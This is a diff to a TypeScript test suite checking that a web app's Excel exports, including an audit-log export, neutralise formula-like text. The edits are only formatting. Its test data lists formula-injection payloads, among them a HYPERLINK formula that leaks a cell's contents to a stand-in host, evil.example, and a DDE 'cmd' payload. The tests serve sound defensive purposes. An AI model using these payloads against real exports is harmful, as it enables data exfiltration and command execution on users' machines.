@@ -18,7 +18,7 @@ afterAll(async () => {
   fs.rmSync(dir, { recursive: true, force: true });
 });
 
-const DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
+const DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
 
 async function cellsOf(file: string | Buffer): Promise<ExcelJS.CellValue[]> {
   const book = new ExcelJS.Workbook();
@@ -49,7 +49,15 @@ describe('formula-like text in Excel exports', { timeout: 120_000 }, () => {
 
   it('the audit-log export neutralises a user name typed as a formula', async () => {
     const evil = '=HYPERLINK("http://evil.example","x")';
-    expectStatus(await t.app.inject({ method: 'POST', url: '/api/auth/login', headers: { 'x-requested-with': 'x' }, payload: { username: evil, password: 'Wrong@password1' } }), 401);
+    expectStatus(
+      await t.app.inject({
+        method: 'POST',
+        url: '/api/auth/login',
+        headers: { 'x-requested-with': 'x' },
+        payload: { username: evil, password: 'Wrong@password1' },
+      }),
+      401,
+    );
     const res = await t.app.inject({ url: '/api/audit-events/export?result=failure', headers: await t.as('auditadmin') });
     expect(res.statusCode).toBe(200);
     const values = await cellsOf(res.rawPayload);
